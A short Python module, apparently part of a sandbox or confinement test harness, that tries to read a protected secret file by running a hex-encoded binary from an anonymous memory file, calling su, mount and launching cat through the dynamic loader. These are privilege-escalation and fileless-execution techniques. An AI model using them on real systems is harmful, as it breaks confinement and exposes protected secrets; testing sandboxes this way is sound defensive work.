"""Runs a program from memory, from its directory and through the loader, to find one that starts without restrictions.

gains: a process with more privileges than its parent
needs: chain
"""


def from_memory():
    memory = os.memfd_create("program", 0)
    os.write(memory, bytes.fromhex(V["chain"]))
    command = [f"/proc/self/fd/{memory}", "1", "17", "/bin/cat", V["secret"]]
    return subprocess.run(command, pass_fds=(memory,), **OPTIONS)


OPTIONS = {"capture_output": True, "timeout": 10, "stdin": subprocess.DEVNULL}
if os.access(V["secret"], os.R_OK):
    tried("nothing confines files here")
else:
    reads("from memory", from_memory)
    for command in (
        ["su", "-c", f"cat {V['secret']}"],
        ["mount"],
        ["/lib64/ld-linux-x86-64.so.2", "/bin/cat", V["secret"]],
    ):
        reads(command[0], lambda command=command: subprocess.run(command, **OPTIONS))
